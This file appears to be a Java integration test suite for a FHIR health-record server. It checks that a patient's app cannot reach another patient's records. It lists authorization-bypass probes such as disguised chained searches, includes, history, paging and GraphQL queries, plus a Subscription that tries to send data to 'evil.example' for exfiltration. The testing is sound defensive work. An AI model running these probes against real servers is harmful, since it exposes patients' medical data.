package org.openimd.server.security;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.UUID;
import org.hl7.fhir.r4.model.Bundle;
import org.hl7.fhir.r4.model.CareTeam;
import org.hl7.fhir.r4.model.Extension;
import org.hl7.fhir.r4.model.Identifier;
import org.hl7.fhir.r4.model.Observation;
import org.hl7.fhir.r4.model.Reference;
import org.hl7.fhir.r4.model.Resource;
import org.hl7.fhir.r4.model.Subscription;
import org.hl7.fhir.r4.model.Task;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.openimd.server.BaseServerIT;
import org.openimd.server.TestClients;
import org.openimd.server.security.login.Role;
import org.openimd.server.security.login.UserAccount;
import org.openimd.server.security.login.UserAccounts;
import org.openimd.terminology.OpenImdUris;
import org.openimd.terminology.ReviewCodes;
import org.springframework.beans.factory.annotation.Autowired;

/**
 * Patient A's app, holding {@code patient/*.cruds}, tries every way into patient B's data that an
 * attacker with an ordinary account would: each class of request that once leaked, in its plain form
 * and its disguises. Each must fail, or answer nothing of B's. The suite runs once with each request
 * on its own ({@link CrossPatientIT}) and once with every request wrapped in a batch
 * ({@link CrossPatientInBatchIT}).
 */
abstract class CrossPatientSuite extends BaseServerIT {

	@Autowired
	UserAccounts accounts;

	SmartAppLaunchIT.World world;
	String tokenOfA;

	abstract FhirTransport transport();

	@BeforeEach
	void patientAsApp() throws Exception {
		world = SmartAppLaunchIT.twoPatients(client);
		UserAccount patientA = accounts.create("it-cross-" + UUID.randomUUID(), SmartAppLaunchIT.PASSWORD, Role.PATIENT,
				Optional.of("Patient/" + world.patientA()), Optional.empty());
		AppAuthorization flow = new AppAuthorization(baseUrl());
		Map<String, String> redirect = flow.authorize(flow.authorizationUrl(TestClients.PUBLIC_APP, "openid launch/patient patient/*.cruds", Map.of()),
				patientA, SmartAppLaunchIT.PASSWORD);
		JsonNode tokens = AppAuthorization.json(flow.exchangeCode(TestClients.PUBLIC_APP, null, redirect.get("code")));
		tokenOfA = tokens.get("access_token").asText();
	}

	FhirTransport.Answer asA(String theMethod, String thePath) throws Exception {
		return transport().send(fhirBase(), tokenOfA, theMethod, thePath, null, null);
	}

	FhirTransport.Answer asA(String theMethod, String thePath, Resource theBody) throws Exception {
		return transport().send(fhirBase(), tokenOfA, theMethod, thePath, FHIR.newJsonParser().encodeResourceToString(theBody),
				FhirTransport.FHIR_JSON);
	}

	@Test
	void searchesNamingPatientBAreRefusedAndOpenSearchesFindOnlyA() throws Exception {
		assertThat(asA("GET", "/Observation?patient=Patient/" + world.patientB()).status()).isEqualTo(403);
		assertThat(asA("GET", "/Device?patient=Patient/" + world.patientB()).status()).isEqualTo(403);
		assertThat(asA("GET", "/Patient").ids()).containsExactly(world.patientA());
		assertThat(asA("GET", "/Device").ids()).containsExactly(world.deviceA());
		assertThat(asA("GET", "/Observation?_summary=count").bundle().getTotal()).as("A's one vital sign").isEqualTo(1);
		assertThat(asA("GET", "/Device?_summary=count").bundle().getTotal()).as("A's one device").isEqualTo(1);
	}

	@Test
	void includesBringInAsOwnDataAndLeaveOutBs() throws Exception {
		Observation pointingAtB = SmartAppLaunchIT.vitalSign(world.patientA());
		pointingAtB.addPerformer(new Reference("Patient/" + world.patientB()));
		client.create().resource(pointingAtB).execute();
		// focus, unlike performer, does not put B's Observation in A's Patient compartment.
		Observation ofBPointingAtA = SmartAppLaunchIT.vitalSign(world.patientB());
		ofBPointingAtA.addFocus(new Reference("Patient/" + world.patientA()));
		String ofB = client.create().resource(ofBPointingAtA).execute().getId().getIdPart();

		assertThat(asA("GET", "/Observation?_include=Observation:performer&_include=Observation:subject").ids())
				.contains(world.patientA(), world.observationA()).doesNotContain(world.patientB(), world.observationB());
		assertThat(asA("GET", "/Patient?_revinclude=Observation:focus").ids()).containsExactly(world.patientA()).doesNotContain(ofB);
		assertThat(asA("GET", "/Patient?_revinclude=*").types()).doesNotContain("AuditEvent");
	}

	/**
	 * What an operation on an instance answers when refused: 404 on its own, as for an instance that
	 * does not exist; as a batch entry, HAPI's authorization rules take no operations at all (400 for the
	 * whole batch, for anyone's instance).
	 */
	int refusedOperationStatus() {
		return transport() == FhirTransport.IN_A_BATCH ? 400 : 404;
	}

	@Test
	void everythingOfBIsRefusedAndEverythingOfAHoldsOnlyAWithoutTheAuditTrail() throws Exception {
		assertThat(asA("GET", "/Patient/" + world.patientB() + "/$everything").status()).isEqualTo(refusedOperationStatus());
		// Operations are no batch entries (above); A's own $everything is then asked on its own.
		FhirTransport.Answer everything = FhirTransport.PLAIN.send(fhirBase(), tokenOfA, "GET", "/Patient/" + world.patientA() + "/$everything",
				null, null);
		assertThat(everything.ids()).contains(world.patientA(), world.observationA())
				.doesNotContain(world.patientB(), world.observationB(), world.deviceB());
		assertThat(everything.types()).doesNotContain("AuditEvent");
		assertThat(asA("GET", "/AuditEvent?patient=Patient/" + world.patientA()).status()).as("A's own audit trail names other users").isEqualTo(403);
	}

	@Test
	void aWriteThatLinksPatientBAnywhereIsRefusedWhole() throws Exception {
		Identifier marker = uniqueIdentifier();
		Observation performedByB = SmartAppLaunchIT.vitalSign(world.patientA()).addIdentifier(marker);
		performedByB.addPerformer(new Reference("Patient/" + world.patientB()));
		Observation ofBPerformedByA = SmartAppLaunchIT.vitalSign(world.patientB()).addIdentifier(marker);
		ofBPerformedByA.addPerformer(new Reference("Patient/" + world.patientA()));
		Observation focusedOnB = SmartAppLaunchIT.vitalSign(world.patientA()).addIdentifier(marker);
		focusedOnB.addFocus(new Reference("Patient/" + world.patientB()));
		Observation extendedToB = SmartAppLaunchIT.vitalSign(world.patientA()).addIdentifier(marker);
		extendedToB.addExtension(new Extension("https://example.org/any-extension", new Reference("Patient/" + world.patientB())));
		Observation derivedFromBs = SmartAppLaunchIT.vitalSign(world.patientA()).addIdentifier(marker);
		derivedFromBs.addDerivedFrom(new Reference("Observation/" + world.observationB()));
		Observation onBsDevice = SmartAppLaunchIT.vitalSign(world.patientA()).addIdentifier(marker).setDevice(new Reference("Device/" + world.deviceB()));
		for (Observation linking : List.of(performedByB, ofBPerformedByA, focusedOnB, extendedToB, derivedFromBs, onBsDevice)) {
			assertThat(asA("POST", "/Observation", linking).status()).isEqualTo(403);
		}

		Observation own = client.read().resource(Observation.class).withId(world.observationA()).execute();
		own.addPerformer(new Reference("Patient/" + world.patientB()));
		// 412 when HAPI's guard sees the resource's compartment change first, 403 when the write gate does: refused either way.
		assertThat(asA("PUT", "/Observation/" + world.observationA(), own).status()).isIn(403, 412);
		own.getPerformer().clear();
		own.setSubject(new Reference("Patient/" + world.patientB()));
		assertThat(asA("PUT", "/Observation/" + world.observationA(), own).status()).isIn(403, 412);
		own.setSubject(new Reference("Patient/" + world.patientA())).addFocus(new Reference("Patient/" + world.patientB()));
		assertThat(asA("PUT", "/Observation/" + world.observationA(), own).status()).as("focus is no compartment link").isEqualTo(403);
		assertThat(transport().send(fhirBase(), tokenOfA, "PATCH", "/Observation/" + world.observationA(),
				"[{\"op\":\"add\",\"path\":\"/focus\",\"value\":[{\"reference\":\"Patient/" + world.patientB() + "\"}]}]",
				"application/json-patch+json").status()).isIn(403, 404);

		assertThat(client.search().forResource(Observation.class)
				.where(Observation.IDENTIFIER.exactly().systemAndCode(marker.getSystem(), marker.getValue()))
				.returnBundle(Bundle.class).execute().getEntry()).as("nothing refused was stored").isEmpty();
		Observation stored = client.read().resource(Observation.class).withId(world.observationA()).execute();
		assertThat(stored.getSubject().getReference()).endsWith("Patient/" + world.patientA());
		assertThat(stored.getFocus()).isEmpty();
		Observation linkingOwn = SmartAppLaunchIT.vitalSign(world.patientA()).setDevice(new Reference("Device/" + world.deviceA()));
		linkingOwn.addDerivedFrom(new Reference("Observation/" + world.observationA()));
		linkingOwn.addPerformer(new Reference("Practitioner/" + world.practitioner()));
		assertThat(asA("POST", "/Observation", linkingOwn).status()).as("A's own data, linking A's own records and a clinician").isEqualTo(201);
	}

	@Test
	void nobodyButAdministratorsGrantsAccessAndNobodyMakesReviewAssignments() throws Exception {
		CareTeam ownTeam = new CareTeam().setStatus(CareTeam.CareTeamStatus.ACTIVE).setSubject(new Reference("Patient/" + world.patientA()));
		ownTeam.addParticipant().setMember(new Reference("Practitioner/" + world.practitioner()));
		assertThat(asA("POST", "/CareTeam", ownTeam).status()).as("a patient adds a clinician to their own team").isEqualTo(403);

		Task assignment = new Task().setStatus(Task.TaskStatus.REQUESTED).setIntent(Task.TaskIntent.ORDER)
				.setFor(new Reference("Patient/" + world.patientA()))
				.setOwner(new Reference("Practitioner/" + world.practitioner()));
		assignment.getCode().addCoding().setSystem(OpenImdUris.REVIEW_SYSTEM).setCode(ReviewCodes.REVIEW_ASSIGNMENT);
		assertThat(asA("POST", "/Task", assignment).status()).as("a review assignment made by hand").isEqualTo(403);
		assertThat(transport().send(fhirBase(), accessToken, "POST", "/Task", FHIR.newJsonParser().encodeResourceToString(assignment),
				FhirTransport.FHIR_JSON).status()).as("not even a system with every scope: only $submit-for-review makes them").isEqualTo(403);

		Identifier teamId = uniqueIdentifier();
		ownTeam.addIdentifier(teamId);
		assertThat(transport().send(fhirBase(), accessToken, "POST", "/CareTeam", FHIR.newJsonParser().encodeResourceToString(ownTeam),
				FhirTransport.FHIR_JSON).status()).as("a system that acts for nobody keeps care teams").isEqualTo(201);
		String team = "CareTeam/" + client.search().forResource(CareTeam.class).where(CareTeam.IDENTIFIER.exactly()
				.systemAndCode(teamId.getSystem(), teamId.getValue())).returnBundle(Bundle.class).execute().getEntryFirstRep().getResource()
				.getIdElement().getIdPart();
		assertThat(auditEventsEventually("subtype=110129",
				event -> event.getEntity().stream().anyMatch(entity -> team.equals(entity.getWhat().getIdentifier().getValue()))))
				.as("the change of access is audited").singleElement()
				.satisfies(event -> assertThat(event.getAgentFirstRep().getWho().getIdentifier().getValue()).isEqualTo(TestClients.FULL_ACCESS));
	}

	@Test
	void chainsInEveryDisguiseAndOtherCrossPatientFormsAreRefused() throws Exception {
		for (String path : List.of("/Observation?focus:Patient.given=Beta", "/Observation?subject:Patient.name=Beta",
				"/Observation?subject.name=Beta", "/Observation?performer:Patient.family=Beta", "/Observation?subject%2Ename=Beta",
				"/Observation?patient.identifier=x", "/Patient?_has:Observation:patient:code=8867-4",
				"/Observation?_filter=subject%20eq%20Patient/" + world.patientB(), "/Observation?_contained=true",
				"/Observation?_text=Beta", "/_history", "/Observation/_history", "/?_type=Observation",
				"/$graphql?query=%7BPatientList%7Bid%7D%7D")) {
			FhirTransport.Answer answer = asA("GET", path);
			assertThat(answer.status()).as(path).isIn(400, 403, 404, 405);
			assertThat(answer.body()).as(path).doesNotContain("Beta");
		}
	}

	@Test
	void anotherPatientsResourceAnswersExactlyAsAMissingOne() throws Exception {
		String missing = "Observation/" + (Long.parseLong(world.observationB()) + 1_000_000);
		for (String[] pair : List.of(
				new String[] {"/Observation/" + world.observationB(), "/" + missing},
				new String[] {"/Observation/" + world.observationB() + "/_history/1", "/" + missing + "/_history/1"},
				new String[] {"/Observation/" + world.observationB() + "/_history", "/" + missing + "/_history"},
				new String[] {"/Patient/" + world.patientB() + "/$everything", "/Patient/" + (Long.parseLong(world.patientB()) + 1_000_000) + "/$everything"})) {
			FhirTransport.Answer outOfReach = asA("GET", pair[0]);
			FhirTransport.Answer absent = asA("GET", pair[1]);
			assertThat(outOfReach.status()).as(pair[0]).isEqualTo(absent.status()).isEqualTo(pair[0].contains("$") ? refusedOperationStatus() : 404);
			assertThat(outOfReach.diagnostics().replaceAll("\\d+", "N")).as(pair[0]).isEqualTo(absent.diagnostics().replaceAll("\\d+", "N"));
		}
	}

	@Test
	void aPageBelongsToTheTokenThatRanTheSearch() throws Exception {
		client.create().resource(SmartAppLaunchIT.vitalSign(world.patientA())).execute();
		FhirTransport.Answer first = asA("GET", "/Observation?_count=1&_total=accurate");
		if (transport() == FhirTransport.FIRST_PAGE_ONLY) {
			// Answered at once, the search leaves no result set on the server: there is no page for anyone to fetch.
			assertThat(first.bundle().getTotal()).isEqualTo(2);
			assertThat(first.bundle().getLink(Bundle.LINK_NEXT)).isNull();
			return;
		}
		String next = first.bundle().getLink(Bundle.LINK_NEXT).getUrl();
		String page = next.substring(next.indexOf('?'));
		if (transport() == FhirTransport.IN_A_BATCH) {
			// HAPI serves no page inside a batch; the gate says so for everyone alike, instead of HAPI's 500.
			assertThat(asA("GET", "/" + page).status()).as("A's own page as a batch entry").isEqualTo(400);
			assertThat(transport().send(fhirBase(), accessToken, "GET", "/" + page, null, null).status()).as("another's").isEqualTo(400);
		}
		assertThat(FhirTransport.PLAIN.send(fhirBase(), tokenOfA, "GET", "/" + page, null, null).status()).as("A fetches their own page")
				.isEqualTo(200);
		FhirTransport.Answer someoneElse = FhirTransport.PLAIN.send(fhirBase(), accessToken, "GET", "/" + page, null, null);
		FhirTransport.Answer noSuchSearch = FhirTransport.PLAIN.send(fhirBase(), accessToken, "GET", "/" + page.replaceAll("_getpages=[^&]+",
				"_getpages=" + UUID.randomUUID()), null, null);
		assertThat(someoneElse.status()).isEqualTo(noSuchSearch.status()).isEqualTo(410);
		assertThat(someoneElse.body()).doesNotContain("\"total\"");
	}

	@Test
	void searchWideSubscriptionsAndAdministrativeOperationsAreRefused() throws Exception {
		Subscription subscription = new Subscription().setStatus(Subscription.SubscriptionStatus.REQUESTED).setCriteria("Observation?")
				.setReason("exfiltrate");
		subscription.getChannel().setType(Subscription.SubscriptionChannelType.RESTHOOK).setEndpoint("https://evil.example/hook");
		assertThat(asA("POST", "/Subscription", subscription).status()).as("only topic-based subscriptions, each notification a read by its owner")
				.isEqualTo(422);
		FhirTransport.Answer ofTheSystem = transport().send(fhirBase(), accessToken, "GET", "/Subscription", null, null);
		assertThat(ofTheSystem.status()).as("a system finds its own subscriptions").isEqualTo(200);
		assertThat(ofTheSystem.body()).as("nothing of A's stored, nor anyone else's shown").doesNotContain("exfiltrate");
		assertThat(asA("POST", "/$expunge", new org.hl7.fhir.r4.model.Parameters()).status()).isIn(400, 403, 404);
		assertThat(asA("POST", "/$reindex", new org.hl7.fhir.r4.model.Parameters()).status()).isIn(400, 403, 404);
	}

	static List<String> ids(Bundle theBundle) {
		return theBundle.getEntry().stream().map(entry -> entry.getResource().getIdElement().getIdPart()).toList();
	}
}
